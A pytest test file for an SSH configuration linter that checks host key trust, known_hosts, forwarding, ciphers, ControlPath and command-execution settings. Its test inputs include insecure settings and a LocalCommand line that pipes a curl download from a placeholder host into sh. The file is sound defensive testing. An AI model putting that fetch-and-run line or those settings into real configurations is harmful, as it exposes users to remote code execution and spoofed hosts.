"""What a configuration trusts: SSH020 to SSH023, SSH025 to SSH027, SSH029 to SSH033."""

from __future__ import annotations

import base64

import pytest

from envguard.testing import check_files, fix_files


def rows(config: str) -> list[str]:
    """Code and severity of each finding."""
    found = check_files({".ssh/config": config}).reported
    return [f"{r.code} {r.severity.word}" for r in found]


@pytest.mark.parametrize(
    ("config", "expected"),
    [
        ("Host a\n  StrictHostKeyChecking off\n", ["SSH020 error"]),
        ("Host 127.0.0.1 localhost\n  StrictHostKeyChecking no\n", ["SSH020 info"]),
        ("Host default\n  HostName 127.0.0.1\n  StrictHostKeyChecking no\n", ["SSH020 info"]),
        # behind a jump host, localhost is the jump host
        ("Host x\n  HostName localhost\n  ProxyJump b\n  StrictHostKeyChecking no\n",
         ["SSH020 error"]),
        ("Host *\n  StrictHostKeyChecking yes\nHost a\n  StrictHostKeyChecking no\n",
         ["SSH013 warning"]),
        ("Host a\n  UserKnownHostsFile /dev/null\n", ["SSH021 error"]),
        ("Host a\n  UserKnownHostsFile none\n", ["SSH021 error"]),
        # one of the two speaks of both lines
        ("Host a\n  StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n", ["SSH020 error"]),
        ("Host a\n  UserKnownHostsFile /dev/null\n  StrictHostKeyChecking ask\n", ["SSH021 error"]),
        # but not of a line that never takes effect
        ("Host *\n  StrictHostKeyChecking yes\nHost a\n  StrictHostKeyChecking no\n"
         "  UserKnownHostsFile /dev/null\n", ["SSH013 warning", "SSH021 error"]),
        ("Host a\n  UserKnownHostsFile /dev/null ~/.ssh/known_hosts\n", []),
        ("Host a\n  UserKnownHostsFile /dev/null\n  GlobalKnownHostsFile /etc/ours\n"
         "  StrictHostKeyChecking yes\n", []),
        ("Host a\n  ForwardX11 yes\n", ["SSH022 warning"]),
        ("Host a\n  ForwardX11 yes\n  ForwardX11Trusted no\n", []),
        ("Host *\n  Ciphers +3des-cbc\n", ["SSH023 warning"]),
        ("Host old\n  HostKeyAlgorithms +ssh-rsa\n", []),
        ("Host old\n  HostKeyAlgorithms ssh-rsa\n", ["SSH023 warning"]),
        ("Host *\n  MACs -hmac-md5*\n", []),
        ("Host a\n  IdentityFile ~/.ssh/k\n  IdentityFile ~/.ssh/l\n", ["SSH025 warning"]),
        ("Host a\n  IdentityFile ~/.ssh/k\nHost *\n  IdentitiesOnly yes\n", []),
        ("Host *\n  IdentityFile ~/.ssh/id_ed25519\n", []),
        ("Host a\n  IdentityFile none\n", []),
        ("Host a\n  IdentityFile ~/.ssh/k\n  IdentityAgent none\n", []),
        ("Host a\n  IdentityFile ~/.ssh/k.pub\n  IdentitiesOnly yes\n", []),
        ("Host *\n  IdentityAgent /Users/ada/agent.sock\n", ["SSH027 warning"]),
        ("Host *\n  ControlPath /home/%u/.ssh/%C\n", []),
        ("Host *\n  ControlPath /home/jovyan/.ssh/%C\n", []),
        ("Host *\n  ControlPath /var/tmp/%C\n", ["SSH029 warning"]),
        ("Host *\n  ControlPath ~/.ssh/%h\n", ["SSH029 warning"]),
        ("Host *\n  ControlPath ~/.ssh/%r@%n:%p\n", []),
        ("Host one\n  ControlPath ~/.ssh/one\n", []),
        ("Host *\n  ControlPath none\n", []),
        ("Host a\n  LocalCommand curl https://x.example/a | sh\n", ["SSH031 info"]),
        ("Host a\n  PermitLocalCommand yes\n  LocalCommand curl https://x.example/a | sh\n",
         ["SSH030 error"]),
        ("Match exec \"./check.sh\"\n  User a\n", ["SSH030 error"]),
        ("Host a\n  ProxyCommand sh scripts/p.sh %h\n", ["SSH030 error"]),
        ("Host a\n  ProxyCommand ~/bin/p.sh %h\n", []),
        ("Host a\n  ProxyCommand aws ssm start-session --target %h --document-name x/y\n", []),
        ("PermitLocalCommand yes\n", ["SSH031 info"]),
        ("Host *\n  AddKeysToAgent yes\n", ["SSH032 info"]),
        ("Host *\n  AddKeysToAgent 1h\n", []),
    ],
)  # fmt: skip
def test_what_is_trusted(config: str, expected: list[str]) -> None:
    assert rows(config) == expected


def test_a_home_folder_becomes_a_tilde_inside_quotes_too() -> None:
    config = 'Host *\n  IdentityAgent "/Users/ada/Library/Group Containers/a.sock" # agent\n'
    fixed = fix_files({".ssh/config": config})[".ssh/config"].decode()
    assert fixed == config.replace("/Users/ada", "~")


def test_a_short_rsa_key_beside_the_configuration_is_noted() -> None:
    fields = (b"ssh-rsa", b"\x01\x00\x01", b"\x00" + b"\xc3" * 128)
    blob = b"".join(len(field).to_bytes(4, "big") + field for field in fields)
    files = {
        ".ssh/config": "Host a\n  IdentityFile ~/.ssh/old\n  IdentitiesOnly yes\n",
        ".ssh/old.pub": f"ssh-rsa {base64.b64encode(blob).decode()} ada@home\n",
    }
    found = check_files(files).reported
    assert [r.code for r in found] == ["SSH026"]
    assert "1024 bits" in found[0].finding.values["kind"]
